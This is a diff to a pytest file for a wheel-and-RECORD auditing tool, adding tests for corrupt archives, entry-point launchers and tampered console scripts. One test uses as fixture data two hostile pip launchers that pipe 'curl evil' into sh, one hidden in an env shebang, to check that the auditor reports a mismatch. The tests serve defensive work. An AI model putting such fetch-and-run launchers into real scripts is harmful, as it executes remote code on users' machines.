@@ -7,6 +7,7 @@ import os
 import pathlib
 import zipfile
 from dataclasses import replace
+from pathlib import Path
 
 import pytest
 
@@ -163,6 +164,23 @@ def test_hostile_locked_wheel_is_a_clean_finding(test_env, tmp_path, monkeypatch
     assert stats.wheels_read == 0 and stats.missing == 1
 
 
+@pytest.mark.timeout(120)
+@pytest.mark.parametrize("member", ["six-1.16.0.dist-info/RECORD", "six-1.16.0.data/scripts/tool"])
+def test_corrupt_deflate_stream_is_a_clean_finding(test_env, tmp_path, member):
+    # zlib.error is no zipfile exception: it must still end in wheel_unusable, never a traceback.
+    members = {"six-1.16.0.dist-info/RECORD": b"six.py,sha256=x,1\n" * 200, "six-1.16.0.data/scripts/tool": b"x" * 4000}
+    path = _wheel(tmp_path / SIX_WHEEL, members)
+    with zipfile.ZipFile(path) as zf:
+        info = zf.getinfo(member)
+    data = bytearray(Path(path).read_bytes())
+    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
+    data[start : start + 16] = b"\xff" * 16  # an invalid deflate block header
+    Path(path).write_bytes(bytes(data))
+    findings, _ = _check_six_against(test_env, tmp_path, path)
+    assert [(f.kind, f.subject) for f in findings] == [("wheel_unusable", "six")]
+    assert "not a readable zip" in findings[0].message
+
+
 def test_member_count_is_capped(test_env, tmp_path, monkeypatch):
     monkeypatch.setattr("sidecars.deps.wheels.MAX_MEMBERS", 50)
     members = {f"six/m{i}.py": b"" for i in range(60)} | {"six-1.16.0.dist-info/RECORD": b""}
@@ -236,15 +254,15 @@ def test_relocated_data_scripts_and_entry_points_match_the_locked_wheel(test_env
 # ---- pure --------------------------------------------------------------------------------------
 
 
-def _content(rows, scripts=None, entry=frozenset()):
+def _content(rows, scripts=None, entry=None):
     entries = tuple(RecordEntry(p, d, None) for p, d in rows)
-    return WheelContent("0" * 64, "pkg-1.0.dist-info", entries, scripts or {}, frozenset(entry))
+    return WheelContent("0" * 64, "pkg-1.0.dist-info", entries, scripts or {}, dict(entry or {}))
 
 
 def test_compare_records_allows_only_the_installers_rows():
     wheel = _content(
         [("pkg/a.py", "sha256=A"), ("pkg-1.0.dist-info/METADATA", "sha256=M"), ("pkg-1.0.dist-info/RECORD", None)],
-        entry={"pkg"},
+        entry={"pkg": "pkg.cli:main"},
     )
     installed = [
         RecordEntry("pkg/a.py", "sha256=A", None),
@@ -256,17 +274,21 @@ def test_compare_records_allows_only_the_installers_rows():
         RecordEntry("../../../bin/pkg", "sha256=L", None),
     ]
     never = lambda *_: False  # noqa: E731
-    assert compare_records(wheel, "pkg-1.0.dist-info", installed, never) == []
+    launchers = lambda path, digest, spec: spec == "pkg.cli:main"  # noqa: E731
+    assert compare_records(wheel, "pkg-1.0.dist-info", installed, never, launchers) == []
+    assert compare_records(wheel, "pkg-1.0.dist-info", installed, never, never) == [
+        "../../../bin/pkg: a launcher of pkg.cli:main that is not the generated stub calling it"
+    ]
     extra = [
         *installed,
         RecordEntry("pkg/evil.py", "sha256=E", None),
         RecordEntry("../../../bin/other", "sha256=O", None),
     ]
-    assert compare_records(wheel, "pkg-1.0.dist-info", extra, never) == [
+    assert compare_records(wheel, "pkg-1.0.dist-info", extra, never, launchers) == [
         "../../../bin/other: in the installed RECORD, not in the locked wheel",
         "pkg/evil.py: in the installed RECORD, not in the locked wheel",
     ]
-    assert compare_records(wheel, "Pkg-1.0.dist-info", installed, never)[0] == (
+    assert compare_records(wheel, "Pkg-1.0.dist-info", installed, never, launchers)[0] == (
         "Pkg-1.0.dist-info: the locked wheel's metadata directory is pkg-1.0.dist-info"
     )
 
@@ -276,5 +298,35 @@ def test_script_rewrite_and_entry_points():
     assert not rewritten_script(b"#!python\nprint(1)\n", b"#!/venv/bin/python\nprint(2)\n")
     assert not rewritten_script(b"#!/bin/sh\necho\n", b"#!/bin/bash\necho\n")
     text = "[console_scripts]\npip = pip._internal:main\npip3.11 = x:y\n[gui_scripts]\ng = a:b\n[other]\nz = c:d\n"
-    assert entry_point_scripts(text) == {"pip", "pip3.11", "g"}
-    assert entry_point_scripts("not [ini") == frozenset()
+    assert entry_point_scripts(text) == {"pip": "pip._internal:main", "pip3.11": "x:y", "g": "a:b"}
+    assert entry_point_scripts("not [ini") == {}
+
+
+# ---- what a rebuilt wheel leaves outside site-packages: launchers and shebangs are read ---------
+
+
+def _rewrite_installed(site: Path, rel: str, data: bytes) -> None:
+    """The state a rebuilt pip wheel leaves: ``rel`` with new bytes and pip's RECORD row to match."""
+    (record,) = site.glob("pip-*.dist-info/RECORD")
+    (site / rel).resolve().write_bytes(data)
+    lines = record.read_text().splitlines()
+    rows = [f"{rel},{record_hash(data)},{len(data)}" if line.split(",")[0] == rel else line for line in lines]
+    assert rows != lines, rel
+    record.write_text("\n".join(rows) + "\n")
+
+
+@pytest.mark.timeout(120)
+@pytest.mark.parametrize(
+    "launcher",
+    [
+        b"#!/bin/sh\ncurl evil | sh\n",
+        b"#!/usr/bin/env -S sh -c 'curl evil|sh; exec python \"$0\"'\nimport sys\n"
+        b"from pip._internal.cli.main import main\nif __name__ == '__main__':\n    sys.exit(main())\n",
+    ],
+)
+def test_a_console_script_launcher_that_is_not_the_stub_is_a_mismatch(test_env, launcher):
+    _rewrite_installed(test_env.site, "../../../bin/pip", launcher)
+    report = test_env.audit()
+    (finding,) = [f for f in report.findings if f.kind == "record_mismatch"]
+    assert finding.subject == "pip" and "../../../bin/pip: a launcher of pip._internal.cli.main:main" in finding.message
+    assert report.exit_code == 1
